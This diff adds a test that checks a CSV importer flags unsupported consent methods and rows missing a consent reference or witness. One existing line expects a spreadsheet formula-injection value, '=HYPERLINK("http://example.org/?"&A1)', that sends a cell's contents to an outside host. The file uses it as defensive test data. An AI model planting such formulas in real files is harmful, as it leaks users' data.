@@ -138,6 +138,24 @@ describe('a hostile file', () => {
     expect(back[1]?.[4]).toBe('=HYPERLINK("http://example.org/?"&A1)');
   });
 
+  it('does not say that people consented online, or without the evidence that it has a column for', async () => {
+    const rows = [
+      changed(1, 'Consent method', 'online'),
+      row(2),
+      changed(3, 'Consent method', 'audio'),
+      changed(4, 'Consent method', 'witnessed_verbal'),
+    ];
+    expect(await reasons((await take(fileOf(...rows))).id)).toEqual([[1, 'Consent method: consent_online_by_others']]);
+    const evidenced = [`${header},Consent reference,Witness`, `${rows[2]},,`, `${rows[3]},,`, `${row(5)},Paper 5,`, `${row(6)},,Ali`].join(
+      '\n',
+    );
+    expect(await reasons((await take(evidenced)).id)).toEqual([
+      [1, 'Consent reference: consent_reference_missing'],
+      [2, 'Witness: consent_witness_missing'],
+      [4, 'Consent reference: consent_reference_missing'],
+    ]);
+  });
+
   it('in another encoding, with mixed line ends and a million empty lines is read as it was meant', async () => {
     const french = fileOf(changed(1, 'Given name', 'Zoé'), changed(2, 'Given name', 'Noël'));
     for (const bytes of [
